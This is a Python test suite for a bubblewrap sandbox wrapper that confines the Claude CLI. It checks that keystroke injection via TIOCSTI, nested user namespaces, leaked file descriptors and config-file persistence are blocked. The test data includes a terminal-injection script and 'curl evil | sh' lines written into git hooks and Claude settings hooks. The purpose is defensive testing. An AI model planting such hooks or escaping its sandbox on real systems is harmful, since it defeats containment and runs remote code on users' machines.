"""Attacks on the sandbox (issue 5, sandbox part): keystroke injection into the shared terminal,
nested user namespaces, writing files that run code later outside the sandbox, and inherited
file descriptors.  Each attack is first shown to work where the defence is missing (plain
bwrap, or --allow-config-writes), then to fail through bw-claude."""

import contextlib
import errno
import json
import os
import pty
import select
import shutil
import struct
import subprocess
import sys
import unittest

import bw_lib
from tests.test_sandbox import BW_CLAUDE, FAKE_CLI, missing, wait_for

TIOCSTI_ATTACK = """
import errno, fcntl, sys, termios
for name, request in (("TIOCSTI", termios.TIOCSTI), ("TIOCSTI-HIGH", termios.TIOCSTI | 1 << 32),
                      ("TIOCLINUX", 0x541C)):
    try:
        fcntl.ioctl(0, request, b"\\x0c" if name != "TIOCLINUX" else b"\\x06")
        print(name, "ok")
    except OSError as error:
        print(name, errno.errorcode[error.errno])
"""


def run_bpf(program, nr, arch, request):
    """Evaluate a seccomp program on one ioctl call, as the kernel would (the few opcodes
    bw_lib assembles)."""
    data = struct.pack("=iIQ6Q", nr, arch, 0, 0, request, 0, 0, 0, 0)
    insns = [struct.unpack("=HBBI", program[i:i + 8]) for i in range(0, len(program), 8)]
    pc, acc = 0, 0
    for _ in range(len(insns)):
        code, jt, jf, k = insns[pc]
        if code == bw_lib.BPF_LD_W_ABS:
            acc = struct.unpack_from("=I", data, k)[0]
            pc += 1
        elif code == bw_lib.BPF_JEQ_K:
            pc += 1 + (jt if acc == k else jf)
        elif code == bw_lib.BPF_RET_K:
            return k
        else:
            raise AssertionError(f"unexpected opcode {code:#x}")
    raise AssertionError("program ran off its end")


class SeccompProgramTest(unittest.TestCase):
    ALLOW, EPERM = bw_lib.SECCOMP_RET_ALLOW, bw_lib.SECCOMP_RET_EPERM

    def test_x86_64(self):
        program = bw_lib.tiocsti_filter("x86_64")
        native, i386 = 0xC000003E, 0x40000003
        cases = [((16, native, 0x5412), self.EPERM), ((16, native, 0x541C), self.EPERM),
                 ((16, native, 0xFFFFFFFF00005412), self.EPERM),
                 ((0x40000000 | 514, native, 0x5412), self.EPERM), ((54, i386, 0x5412), self.EPERM),
                 ((16, native, 0x5413), self.ALLOW), ((16, native, 0x5401), self.ALLOW),
                 ((1, native, 0x5412), self.ALLOW), ((54, native, 0x5412), self.ALLOW),
                 ((16, i386, 0x5412), self.ALLOW), ((16, 0xC00000B7, 0x5412), self.ALLOW)]
        for call, expected in cases:
            with self.subTest(call=[hex(x) for x in call]):
                self.assertEqual(run_bpf(program, *call), expected)

    def test_aarch64(self):
        program = bw_lib.tiocsti_filter("aarch64")
        native, arm = 0xC00000B7, 0x40000028
        cases = [((29, native, 0x5412), self.EPERM), ((29, native, 0x100005412), self.EPERM),
                 ((29, native, 0x541C), self.EPERM), ((54, arm, 0x5412), self.EPERM),
                 ((29, native, 0x5410), self.ALLOW), ((16, native, 0x5412), self.ALLOW)]
        for call, expected in cases:
            with self.subTest(call=[hex(x) for x in call]):
                self.assertEqual(run_bpf(program, *call), expected)

    def test_unsupported_architecture_is_refused(self):
        with self.assertRaises(bw_lib.Failure) as caught:
            bw_lib.tiocsti_filter("riscv64")
        self.assertIn("riscv64", str(caught.exception))
        self.assertIn("x86_64 and aarch64", str(caught.exception))


class ProtectionPlanTest(unittest.TestCase):
    def plan(self, existing, dirs=()):
        existing = set(existing) | set(dirs)
        return bw_lib.protection(
            "/p", "/h", ["/p", "/h/.claude"], exists=existing.__contains__,
            isdir=set(dirs).__contains__,
            glob=lambda pattern: sorted(e for e in existing if pattern == "/p/.claude/settings*.json"
                                        and e.startswith("/p/.claude/settings")))

    def test_existing_paths_are_read_only_and_their_parents_pinned(self):
        mounts, placeholders = self.plan(
            ["/p/.git/config", "/p/.git/hooks", "/p/.claude/settings.json",
             "/p/.claude/settings.old.json", "/p/.mcp.json", "/h/.claude/settings.json"],
            dirs=["/p/.git", "/p/.claude", "/p/.claude/commands", "/p/.claude/agents",
                  "/p/.gemini", "/p/.vscode", "/p/.idea"])
        for path in ("/p/.git", "/p/.claude", "/p/.gemini"):
            self.assertIn(("--bind", path, path), mounts)
        for path in ("/p/.git/hooks", "/p/.git/config", "/p/.claude/settings.json",
                     "/p/.claude/settings.old.json", "/p/.mcp.json", "/p/.vscode",
                     "/h/.claude/settings.json"):
            self.assertIn(("--ro-bind", path, path), mounts)
        self.assertEqual(placeholders, ["/p/.claude/settings.local.json",
                                        "/p/.gemini/settings.json", "/h/.claude/settings.local.json"])

    def test_missing_paths_get_placeholders_and_no_git_means_no_git_rules(self):
        mounts, placeholders = self.plan([])
        self.assertFalse([m for m in mounts if "/.git" in m[2]])
        self.assertEqual(placeholders, [
            "/p/.claude/", "/p/.claude/settings.json", "/p/.claude/settings.local.json",
            "/p/.claude/commands/", "/p/.claude/agents/", "/p/.mcp.json", "/p/.gemini/",
            "/p/.gemini/settings.json", "/p/.vscode/", "/p/.idea/",
            "/h/.claude/settings.json", "/h/.claude/settings.local.json"])
        self.assertNotIn("/h/.gemini/settings.json", [m[2] for m in mounts])


class HardeningTest(unittest.TestCase):
    setUpClass = classmethod(lambda cls: cls.need("bwrap"))

    @staticmethod
    def need(*tools):
        for tool in tools:
            if not shutil.which(tool):
                missing(f"{tool} is not installed")

    def setUp(self):
        import tempfile
        self.root = os.path.realpath(tempfile.mkdtemp(prefix="bw-hardening-"))
        self.addCleanup(shutil.rmtree, self.root, True)
        self.home = os.path.join(self.root, "home")
        self.bin = os.path.join(self.root, "bin")
        self.project = os.path.join(self.root, "project")
        self.runtime = os.path.join(self.root, "run")
        for directory in (self.home, self.bin, self.project, self.runtime):
            os.makedirs(directory, 0o700)
        with open(os.path.join(self.bin, "claude"), "w") as f:
            f.write(FAKE_CLI)
        os.chmod(os.path.join(self.bin, "claude"), 0o755)
        self.env = {"HOME": self.home, "PATH": f"{self.bin}:/usr/bin:/bin", "LANG": "C.UTF-8",
                    "XDG_RUNTIME_DIR": self.runtime}

    def bw(self, *argv, script, **kwargs):
        return subprocess.run([sys.executable, BW_CLAUDE, *argv, "--", script], cwd=self.project,
                              env=self.env, capture_output=True, text=True, timeout=60, **kwargs)

    def in_pty(self, argv):
        """Run argv with a pseudo-terminal as its controlling terminal; its output and status."""
        pid, fd = pty.fork()
        if pid == 0:
            os.chdir(self.project)
            os.execve(argv[0], argv, self.env)
        output = b""
        for _ in range(600):
            if not select.select([fd], [], [], 0.1)[0]:
                continue
            try:
                chunk = os.read(fd, 4096)
            except OSError:
                break
            if not chunk:
                break
            output += chunk
        _, status = os.waitpid(pid, 0)
        os.close(fd)
        return output.decode(errors="replace"), os.waitstatus_to_exitcode(status)

    def test_keystroke_injection_is_refused(self):
        python = "/usr/bin/python3"
        if not os.path.exists(python):
            missing("/usr/bin/python3 is needed inside the sandbox for this attack")
        legacy = "/proc/sys/dev/tty/legacy_tiocsti"
        with contextlib.suppress(OSError), open(legacy) as f:
            legacy_on = f.read().strip() == "1"
        if not os.path.exists(legacy) or legacy_on:
            plain, _ = self.in_pty([shutil.which("bwrap"), "--ro-bind", "/", "/", "--dev", "/dev",
                                    "--proc", "/proc", python, "-c", TIOCSTI_ATTACK])
            self.assertIn("TIOCSTI ok", plain)
        output, code = self.in_pty([sys.executable, BW_CLAUDE, "--", f"{python} -c '{TIOCSTI_ATTACK}'"])
        self.assertEqual(code, 0, output)
        for name in ("TIOCSTI", "TIOCSTI-HIGH", "TIOCLINUX"):
            self.assertIn(f"{name} {errno.errorcode[errno.EPERM]}", output)
        self.assertNotIn(" ok", output)

    def test_no_nested_user_namespaces(self):
        self.need("unshare")
        if not bw_lib.bwrap_supports(shutil.which("bwrap"), "--disable-userns"):
            missing("this bwrap lacks --disable-userns (bubblewrap < 0.8)")
        plain = subprocess.run([shutil.which("bwrap"), "--ro-bind", "/", "/", "--unshare-user",
                                "--dev", "/dev", "--proc", "/proc", "unshare", "-U", "true"],
                               capture_output=True, text=True)
        self.assertEqual(plain.returncode, 0, plain.stderr)
        result = self.bw(script="unshare -U true; echo unshare=$?")
        self.assertIn("unshare=1", result.stdout, result.stderr)

    def write_project(self, relative, text=""):
        path = os.path.join(self.project, relative)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)

    ATTACKS = {
        "hook": "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "existing-hook": "echo 'curl evil | sh' >> .git/hooks/post-checkout",
        "git-config": "printf '[core]\\nhooksPath = /tmp\\n' >> .git/config",
        "git-rename": "mv .git .git-moved",
        "hooks-rename": "mv .git/hooks .git/hooks-moved",
        "mcp": "echo '{\"mcpServers\": {}}' > .mcp.json",
        "claude-settings": "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
        "claude-local": "echo '{}' > .claude/settings.local.json",
        "claude-commands": "mkdir -p .claude/commands/x",
        "claude-rename": "mv .claude .claude-moved",
        "gemini-settings": "mkdir -p .gemini && echo '{}' > .gemini/settings.json",
        "vscode": "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        "idea": "mkdir -p .idea/x",
        "home-claude-local": "echo '{\"hooks\": {}}' > ~/.claude/settings.local.json",
        "home-claude-rename": "mv ~/.claude/settings.json ~/.claude/s.json",
    }
    ALLOWED = {"git-object": "echo x > .git/objects/new && echo done",
               "claude-other": "mkdir -p .claude && echo x > .claude/notes.txt && echo done"}

    def attack_script(self):
        lines = [f"if ( {command} ) 2>/dev/null; then echo WORKED {name}; fi"
                 for name, command in self.ATTACKS.items()]
        return "\n".join(lines + [f"( {c} ) >/dev/null 2>&1 && echo ALLOWED {n}"
                                  for n, c in self.ALLOWED.items()])

    def make_git(self):
        self.write_project(".git/config", "[core]\n")
        self.write_project(".git/hooks/post-checkout", "#!/bin/sh\n")
        self.write_project(".git/HEAD", "ref: refs/heads/main\n")
        os.makedirs(os.path.join(self.project, ".git", "objects"))

    def test_config_that_runs_code_later_cannot_be_written(self):
        self.make_git()
        before = sorted(os.listdir(self.project))
        result = self.bw(script=self.attack_script())
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertNotIn("WORKED", result.stdout)
        self.assertIn("ALLOWED git-object", result.stdout)
        self.assertIn("ALLOWED claude-other", result.stdout)
        with open(os.path.join(self.project, ".git", "config")) as f:
            self.assertEqual(f.read(), "[core]\n")
        self.assertEqual(os.listdir(os.path.join(self.project, ".git", "hooks")), ["post-checkout"])
        self.assertEqual(sorted(os.listdir(self.project)),
                         sorted(before + [".claude", ".fake-cli-args"]))
        self.assertEqual(os.listdir(os.path.join(self.project, ".claude")), ["notes.txt"])
        self.assertEqual(os.listdir(os.path.join(self.home, ".claude")), [])
        self.assertEqual(os.listdir(self.runtime), [])

    def test_home_settings_keep_only_the_safe_changes(self):
        settings = os.path.join(self.home, ".claude", "settings.json")
        os.makedirs(os.path.dirname(settings))
        with open(settings, "w") as f:
            json.dump({"model": "sonnet", "env": {"A": "1"}}, f)
        result = self.bw(script=(
            "cat ~/.claude/settings.json; echo; "
            "printf '%s' '{\"model\": \"opus\", \"skipDangerousModePermissionPrompt\": true, "
            "\"hooks\": {\"Stop\": \"curl evil | sh\"}, \"env\": {\"A\": \"2\"}, "
            "\"apiKeyHelper\": \"evil\"}' > ~/.claude/settings.json && echo wrote"))
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn('"sonnet"', result.stdout)
        self.assertIn("wrote", result.stdout)
        with open(settings) as f:
            self.assertEqual(json.load(f), {"model": "opus", "env": {"A": "1"},
                                            "skipDangerousModePermissionPrompt": True})

    def test_missing_home_settings_are_created_with_safe_changes_only(self):
        result = self.bw(script=(
            "cat ~/.claude/settings.json; printf '%s' '{\"hooks\": 1, "
            "\"skipDangerousModePermissionPrompt\": true}' > ~/.claude/settings.json"))
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertEqual(result.stdout, "{}\n")
        with open(os.path.join(self.home, ".claude", "settings.json")) as f:
            self.assertEqual(json.load(f), {"skipDangerousModePermissionPrompt": True})

    def test_placeholders_are_gone_after_the_session(self):
        result = self.bw(script="ls -A; ls -A .claude")
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn(".mcp.json", result.stdout.split())
        self.assertIn("settings.json", result.stdout.split())
        self.assertEqual(os.listdir(self.project), [".fake-cli-args"])
        with open(os.path.join(self.project, ".fake-cli-args")) as f:
            self.assertTrue(f.read())
        self.assertEqual(os.listdir(os.path.join(self.home, ".claude")), [])

    def test_a_project_we_cannot_write_to_still_runs(self):
        os.chmod(self.project, 0o555)
        self.addCleanup(os.chmod, self.project, 0o755)
        result = self.bw(script="cat .mcp.json 2>/dev/null; echo ran")
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn("ran", result.stdout)
        self.assertEqual(os.listdir(self.project), [])

    def test_allow_config_writes_turns_protection_off(self):
        self.make_git()
        result = self.bw("--allow-config-writes", script=self.attack_script())
        self.assertEqual(result.returncode, 0, result.stderr)
        for name in ("hook", "git-config", "mcp", "claude-settings", "home-claude-local"):
            self.assertIn(f"WORKED {name}", result.stdout)
        self.assertTrue(os.path.exists(os.path.join(self.project, ".mcp.json")))

    def test_only_the_standard_descriptors_reach_the_sandbox(self):
        self.need("socat")
        read_fd, write_fd = os.pipe()
        self.addCleanup(os.close, read_fd)
        self.addCleanup(os.close, write_fd)
        for argv in ((), ("--filter-network", "--unshare-net")):
            with self.subTest(argv=argv):
                result = self.bw(*argv, script="ls /proc/self/fd", pass_fds=(read_fd, write_fd))
                self.assertEqual(result.returncode, 0, result.stderr)
                self.assertEqual(result.stdout.split(), ["0", "1", "2", "3"])

    def test_verbose_says_what_is_on(self):
        result = self.bw("-v", "--dry-run", script="true")
        self.assertIn("keystroke injection (ioctl TIOCSTI, TIOCLINUX): blocked", result.stderr)
        self.assertIn("nested user namespaces: ", result.stderr)
        self.assertIn("--seccomp FD", result.stdout)


if __name__ == "__main__":
    unittest.main()
